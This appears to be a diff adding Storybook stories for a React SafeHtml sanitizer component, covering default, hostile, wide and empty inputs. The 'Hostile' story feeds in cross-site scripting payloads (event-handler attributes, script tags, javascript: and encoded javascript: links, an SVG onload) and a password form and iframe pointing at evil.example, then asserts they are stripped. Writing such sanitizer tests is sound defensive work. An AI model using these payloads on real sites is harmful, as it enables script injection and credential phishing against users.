@@ -1,0 +1,64 @@
+import { Box } from '@mantine/core';
+import { expect } from 'storybook/test';
+import { SafeHtml } from '@/components/safe-html';
+import preview from '../../.storybook/preview';
+import { longNepali } from '../support/texts';
+import { journey } from './texts';
+
+const meta = preview.meta({
+  title: 'Components/SafeHtml',
+  component: SafeHtml,
+  decorators: [
+    (Story) => (
+      <Box p="md" maw={640}>
+        <Story />
+      </Box>
+    ),
+  ],
+});
+
+export const Default = meta.story({
+  args: { html: journey },
+  play: async ({ canvas }) => {
+    const link = canvas.getByRole('link', { name: 'permit office' });
+    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(link).toHaveAttribute('target', '_blank');
+    await expect(canvas.getByText('Day 2')).toHaveStyle({ textAlign: 'center' });
+  },
+});
+
+export const Hostile = meta.story({
+  args: {
+    html: `<h2 onclick="alert(1)" style="position:fixed;inset:0">Title</h2>
+      <form action="https://evil.example"><input name="password"><button>Sign in</button></form>
+      <style>body { display: none }</style><script>alert(1)</script><iframe src="https://evil.example"></iframe>
+      <svg><a href="javascript:alert(1)"><text>svg</text></a></svg><math><mtext>math</mtext></math>
+      <img src="x" onerror="alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">
+      <a href="javascript:alert(1)">one</a> <a href="&#106;avascript:alert(1)">two</a>
+      <a href="data:text/html,x">three</a> <a href="/admin/logout">four</a> <a href="tel:+977123">five</a>
+      <p data-align="center" id="root" name="x">kept</p>`,
+  },
+  play: async ({ canvas, canvasElement }) => {
+    await expect(canvas.getByRole('heading', { name: 'Title' }).getAttributeNames()).toEqual([]);
+    const banned =
+      'form, input, button, style, script, iframe, svg, math, img, [onerror], [style], [id="root"][name]';
+    await expect(canvas.getByText('kept').parentElement?.querySelector(banned)).toBeNull();
+    await expect(canvas.getAllByRole('link').map((link) => link.textContent)).toEqual(['five']);
+    await expect(canvas.getByText('kept').getAttributeNames()).toEqual([]);
+    await expect(canvasElement).toHaveTextContent('one two three four five');
+  },
+});
+
+export const Wide = meta.story({
+  globals: { viewport: { value: 'phone' } },
+  args: {
+    html: `<p>${'अनुभवीपथप्रदर्शक'.repeat(30)}</p><p>${longNepali}</p><pre>${'pre '.repeat(100)}</pre>
+      <table><tr>${`<td>${'Namche'.repeat(4)}</td>`.repeat(12)}</tr></table>`,
+  },
+  play: async ({ canvasElement }) => {
+    const page = canvasElement.ownerDocument.documentElement;
+    await expect(page.scrollWidth).toBeLessThanOrEqual(page.clientWidth);
+  },
+});
+
+export const Empty = meta.story({ args: { html: null } });
